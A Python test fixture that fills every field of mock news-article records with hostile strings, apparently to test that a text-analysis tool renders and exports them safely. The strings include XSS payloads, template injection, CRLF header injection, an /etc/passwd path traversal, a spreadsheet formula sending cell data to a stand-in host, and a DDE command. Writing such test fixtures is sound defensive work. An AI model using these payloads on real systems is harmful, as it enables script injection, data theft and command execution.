"""Hostile documents: whatever stands in them is text, and every field of theirs is as bad as the text."""

from sayso.model import Document, Event, Forecast, Mention, Plover, Record, record_id
from tests.show import made

HOSTILE = {
    "script": "<script>alert('text')</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": '"><svg onload=alert(2)>',
    "single quotes": "' onfocus='alert(3)' autofocus='",
    "script address": "javascript:alert(4)",
    "script address in disguise": "java\tscript:alert(5)//https://veld.example/",
    "data address": "data:text/html,<script>alert(6)</script>",
    "template": "{{ 7 * 7 }}{% for x in (1).__class__.__mro__ %}{{ x }}{% endfor %}<style>body{display:none}</style>",
    "style": "</style><style>@import '//veld.example/a.css'; *{background:url(//veld.example/b.png)!important}</style>",
    "frame": "</title></style></script><iframe srcdoc='<script>alert(7)</script>'>",
    "svg": "<svg><animate onbegin=alert(8) attributeName=x dur=1s><foreignObject><body onload=alert(9)>",
    "mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(10)&gt;">',
    "form": "</form><form action=https://veld.example/><button formaction=javascript:alert(11)>Send</button>",
    "meta": "<meta http-equiv=refresh content='0;url=https://veld.example/'><base href=https://veld.example/>",
    "link": "<a href=javascript:alert(12)>Vellin</a><link rel=stylesheet href=//veld.example/a.css>",
    "turned": "\u202egnp.trela\u202c\u2067abc",
    "lookalike": "Рompeo \u200bOffice",
    "greek lookalike": "Αnna Βell",
    "invisible": "Ilse\u2060 Br\u00adamm\ufeff",
    "right to left": "قالت <b>إلسه</b> 2031 \u200f(!)",
    "comment": "<!--<script>",
    "references": "&lt;script&gt;alert(13)&#60;/script&#62;&NotEqualTilde;&#x0;",
    "nested": "<b>" * 20_000,
    "unbroken": "W" * 5_000,
    "marks": "Z" + "\u0310\u0321" * 300 + "oe",
    "lines": "Vellin\r\nSet-Cookie: a=b\r\n\r\n<script>alert(14)</script>",
    "nul": "a\0<script>alert(15)</script>\0",
    "cell": '=HYPERLINK("https://veld.example/?"&A1,"open")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cdata": "]]><![CDATA[<script>alert(16)</script>",
    "path": '/../../etc/passwd?span=0-1#r="><script>alert(17)</script>',
}


def hostile(words: str) -> tuple[Document, tuple[Record, ...]]:
    """An article all of whose fields are `words`: the text, who speaks, who acts upon whom, where, what will be."""
    text = f"{words}\n\n“{words}” said {words}. {words} may fall."
    doc = made.document(
        text, title=words, outlet=words, byline=(words,), section=words, url=words, published="2031-05-01",
        parts={"title": (0, len(words))},
    )  # fmt: skip
    first, said = len(words) + 3, 2 * len(words) + 3
    cue = (said + 2, said + 6)
    source = (cue[1] + 1, cue[1] + 1 + len(words))
    last = (source[1] + 2, source[1] + 2 + len(words))
    modal = (last[1] + 1, last[1] + 4)
    who, whom = (named(doc, span, words) for span in (source, last))
    within = made.statement(doc, [source], [cue], [(first - 1, said + 1)], speaker=who.id)
    falls = Event(
        id=record_id(doc.id, "event", (modal[1] + 1, modal[1] + 5)), doc=doc.id, anchor=(last,), kernel=(modal[1] + 1, modal[1] + 5),
        score=0.5, by="hand/1", trigger=(modal[1] + 1, modal[1] + 5), plover=Plover("ASSAULT"), actors=(who.id,), recipients=(whom.id,),
        where=whom.id,
    )  # fmt: skip
    will = Forecast(
        id=record_id(doc.id, "forecast", modal), doc=doc.id, anchor=(last,), kernel=modal, score=0.5, by="hand/1", kind="prediction",
        proposition=((last[0], modal[1] + 5),), wording=(modal,), condition=(source,), event=falls.id,
    )  # fmt: skip
    # One more statement, of the second about itself, so that the name stands on both sides of the network.
    about = made.statement(doc, [source], [modal], [last], speaker=who.id)
    return doc, (within, who, whom, about, falls, will)


def named(doc: Document, span: tuple[int, int], name: str) -> Mention:
    """An actor of that name, with codes as bad."""
    return Mention(
        id=record_id(doc.id, "mention", span), doc=doc.id, anchor=(span,), kernel=span, score=0.5, by="hand/1", span=span, head=span,
        kind="person", name=name, country="<i>", sector="'\"",
    )  # fmt: skip
